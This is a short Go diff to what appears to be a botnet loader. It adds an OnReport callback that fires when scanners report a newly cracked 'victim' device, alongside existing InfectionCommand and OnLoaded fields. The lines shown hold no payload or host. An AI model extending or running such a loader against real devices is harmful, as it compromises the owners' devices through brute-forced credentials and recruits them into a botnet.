@@ -28,6 +28,10 @@ type LoaderConfig struct {
 	InfectionCommand string
 	// OnLoaded observes each successful load.
 	OnLoaded func(victim netip.Addr)
+	// OnReport observes each accepted victim report — one a scanner
+	// cracked and the loader is not already tracking. Duplicate
+	// re-discoveries of a pending or loaded victim are not reported.
+	OnReport func(victim netip.Addr)
 
 	// RetryBase, RetryCap, and MaxRetries shape the active re-dial
 	// backoff after a failed load (dial error, or a session that dies
@@ -162,6 +166,9 @@ func (l *Loader) onReport(line string) {
 		return // already infected or in progress; scanners re-discover constantly
 	}
 	l.pending[addr] = &pendingLoad{user: fields[2], pass: fields[3]}
+	if l.cfg.OnReport != nil {
+		l.cfg.OnReport(addr)
+	}
 	l.load(addr)
 }
 
